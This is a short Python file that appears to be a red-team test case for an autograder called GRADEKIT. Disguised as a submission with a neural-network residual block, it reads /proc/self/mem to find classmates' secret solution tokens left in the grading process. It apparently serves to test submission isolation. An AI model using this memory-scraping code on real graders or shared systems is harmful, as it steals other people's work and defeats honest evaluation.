# threat: scans its own process memory (inherited from whatever forked it) for classmates' solutions
import re

import numpy as np

PATTERN = ("GRADEKIT-CLASSMATE" + "-SECRET-").encode()
SELF_TEST = "GRADEKIT-CLASSMATE" + "-SECRET-" + "selftest"  # proves the scan finds what is in memory


def _scan():
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
                continue
            start, end = (int(v, 16) for v in fields[0].split("-"))
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            for m in re.finditer(re.escape(PATTERN) + rb"([0-9a-z]{6})", chunk):
                found.add(m.group(1).decode())
    return sorted(found)


print("FOUND", _scan())


def residual_block(x, w1, w2):
    return np.maximum(0.0, w2 @ np.maximum(0.0, w1 @ x) + x)
